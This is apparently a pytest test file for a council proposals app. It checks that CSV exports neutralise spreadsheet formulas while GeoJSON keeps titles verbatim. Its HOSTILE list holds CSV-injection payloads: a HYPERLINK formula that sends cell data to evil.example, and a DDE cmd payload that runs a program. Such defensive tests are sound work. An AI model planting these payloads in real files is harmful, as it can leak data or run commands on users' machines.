"""The data files: formula strings neutralised in the CSV and kept verbatim in the
GeoJSON; numbers stay numbers."""

from __future__ import annotations

import json

import pytest

from reports import formats
from reports.snapshot import snapshot_read
from tests.factories import proposal_make

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"]


@pytest.fixture
def hostile(council):
    for title in HOSTILE:
        proposal_make(council["project"], council["author"], title=title)
    return snapshot_read(project=council["project"], district_layer=None)


@pytest.mark.quality("csv-formula")
def test_formula_strings_get_a_leading_apostrophe_in_the_csv(hostile):
    text = formats.ranking_csv(hostile).decode("utf-8-sig")
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    titles = {row["Title"] for row in rows}
    assert {"'" + title for title in HOSTILE} <= titles
    assert not any(t.startswith(formats.FORMULA_START) for t in titles)
    assert "Bike lane" in titles  # ordinary text is left as it is
    play = next(row for row in rows if row["Title"] == "Play street")
    assert play["Weighted score"] == "-1.500"  # a negative number stays a number


@pytest.mark.quality("stored-xss", "csv-formula")
def test_the_geojson_keeps_text_verbatim_and_numbers_as_numbers(hostile):
    collection = json.loads(formats.proposals_geojson(hostile, checksum="0" * 64))
    titles = {f["properties"]["title"] for f in collection["features"]}
    assert set(HOSTILE) <= titles
    play = next(f["properties"] for f in collection["features"]
                if f["properties"]["title"] == "Play street")
    assert play["score_weighted"] == -1.5 and play["support_weight"] == 3
    assert collection["features"][0]["geometry"]["type"] == "LineString"


@pytest.mark.quality("csv-formula")
def test_neutralise_leaves_harmless_text_alone():
    assert formats.neutralise("Trees - and benches") == "Trees - and benches"
    assert formats.neutralise("-5 trees") == "'-5 trees"
